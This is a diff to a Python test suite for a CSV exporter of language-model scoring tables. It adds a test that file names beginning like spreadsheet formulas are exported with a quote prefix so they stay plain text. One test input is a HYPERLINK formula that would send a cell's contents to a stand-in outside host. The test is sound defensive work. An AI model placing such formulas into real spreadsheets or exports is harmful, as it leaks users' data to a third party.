@@ -1,5 +1,6 @@
 """Tables of characters, opened again with pandas and compared with what scoring says, value for value."""
 
+import csv
 import io
 import os
 import stat
@@ -63,6 +64,14 @@ def test_a_table_holds_what_scoring_says_to_every_digit(
     assert table["entropy"].astype(np.float32).tolist() == expected.entropy.tolist()  # type: ignore[union-attr]
     # The column adds up to the perplexity, as a reader would add it.
     assert float(np.exp(table["nll"].mean())) == pytest.approx(source.report.perplexity, rel=1e-6)
+
+
+def test_a_name_that_is_a_formula_is_text_in_a_spreadsheet() -> None:
+    names = ('=HYPERLINK("http://example.org/?"&A1)', "@x", "\t=1", "＝1+1", "a=1", "-")
+    table = export.of([{"file": name, "perplexity": -1.5} for name in names])
+    rows = list(csv.DictReader(io.StringIO(table)))
+    assert [row["file"] for row in rows] == [*(f"'{name}" for name in names[:4]), *names[4:]]
+    assert {row["perplexity"] for row in rows} == {"-1.5"}
 
 
 def of_length(n: int, folder: Path) -> Record:
